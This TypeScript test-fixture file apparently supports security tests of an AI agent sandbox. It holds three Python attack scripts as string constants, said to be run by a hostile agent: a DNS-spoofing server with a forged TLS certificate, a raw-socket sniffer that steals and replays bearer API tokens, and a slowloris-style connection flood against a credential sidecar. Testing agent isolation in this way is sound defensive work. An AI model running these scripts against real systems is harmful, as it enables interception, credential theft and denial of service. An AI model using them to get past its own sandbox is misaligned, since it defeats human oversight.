// What a hostile agent and its helpers run, in Python: it needs no more than the agent's image has.

/** answers as the cluster's DNS does, but leads the provider to itself, where it presents a certificate of its own making */
export const LIAR = `
import os, socket, ssl, struct, subprocess, threading
real = open('/etc/resolv.conf').read().split('nameserver ')[1].split()[0]
host = os.environ['HOST']
subprocess.run(['openssl', 'req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', '/tmp/key', '-out', '/tmp/cert',
  '-subj', '/CN=stub', '-addext', 'subjectAltName=DNS:' + host], check=True, capture_output=True)
dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
dns.bind(('0.0.0.0', 53))
def resolve():
  while True:
    query, client = dns.recvfrom(4096)
    at, labels = 12, []
    while query[at]:
      labels.append(query[at + 1:at + 1 + query[at]].decode())
      at += query[at] + 1
    is_a = struct.unpack('>H', query[at + 1:at + 3])[0] == 1
    if '.'.join(labels).lower() == host:
      answer = query[:2] + b'\\x81\\x80' + query[4:6] + struct.pack('>HHH', is_a, 0, 0) + query[12:at + 5]
      if is_a: answer += b'\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\0\\0\\4' + socket.inet_aton(os.environ['IP'])
      dns.sendto(answer, client)
    else:
      onward = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
      onward.settimeout(3)
      try:
        onward.sendto(query, (real, 53))
        dns.sendto(onward.recv(4096), client)
      except OSError: pass
threading.Thread(target=resolve, daemon=True).start()
tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
tls.load_cert_chain('/tmp/cert', '/tmp/key')
listener = socket.create_server(('0.0.0.0', 443))
open('/tmp/ready', 'w').close()
while True:
  plain, _ = listener.accept()
  print('connected', flush=True)
  try: print('received', tls.wrap_socket(plain, server_side=True).recv(65536), flush=True)
  except OSError: print('refused', flush=True)
`;

/** waits for a token on the wire; prints the status with which the sidecar serves it, or why there is none */
export const STEAL = `
import re, socket, urllib.request
try: wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
except PermissionError: raise SystemExit(print('no raw socket'))
wire.settimeout(10)
print('listening', flush=True)
while True:
  found = re.search(rb'Bearer (sk-proj-seks[0-9A-Za-z]+)', wire.recv(65535))
  if found: break
request = urllib.request.Request('http://127.0.0.1:15080/openai/v1/models', headers={'authorization': found[0].decode()})
print(urllib.request.urlopen(request).status)
`;

/** heads that never end, as many as the sidecar takes or can be opened in 20 s; says whether it lives */
export const FLOOD = `
import resource, socket, time, urllib.request
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (min(10000, hard), hard))
head = b'GET /openai/v1/models HTTP/1.1\\r\\nHost: 127.0.0.1:15080\\r\\nX-A: ' + b'a' * 31000
held, end = [], time.time() + 20
while len(held) < 9000 and time.time() < end:
  try:
    held.append(socket.create_connection(('127.0.0.1', 15080), 5))
    held[-1].sendall(head)
  except ConnectionError: break
  except OSError: pass
try:
  for _ in range(20): urllib.request.urlopen('http://127.0.0.1:15090/healthz', timeout=20).read()
  print('alive')
except OSError as error: print('gone:', error)
`;
